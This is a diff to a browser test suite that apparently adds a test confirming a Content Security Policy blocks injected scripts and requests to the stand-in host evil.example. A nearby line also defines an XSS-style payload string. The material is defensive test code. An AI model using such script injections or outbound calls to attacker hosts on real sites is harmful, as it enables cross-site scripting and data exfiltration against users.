@@ -249,6 +249,16 @@ def test_nothing_stands_in_the_way_of_those_who_hear_or_see_little(screens: Scre
     assert [each["id"] for each in found.response["violations"]] == []
 
 
+def test_no_script_but_the_pages_own_runs(screens: Screens) -> None:
+    page = screens.open()
+    added = """() => { const made = document.createElement("script"); made.textContent = "window.pwned = 1";
+        document.body.append(made); const shown = document.createElement("img"); shown.src = "http://evil.example/x";
+        document.body.append(shown); return fetch("http://evil.example/").then(() => "sent", () => "kept"); }"""
+    assert page.evaluate(added) == "kept"
+    assert page.evaluate("window.pwned") is None
+    assert sum("Content Security Policy" in each for each in screens.complaints) >= 3
+
+
 HOSTILE = "<img src=x onerror=window.pwned=1></script><b>__proto__ \u202etxet"
 
 
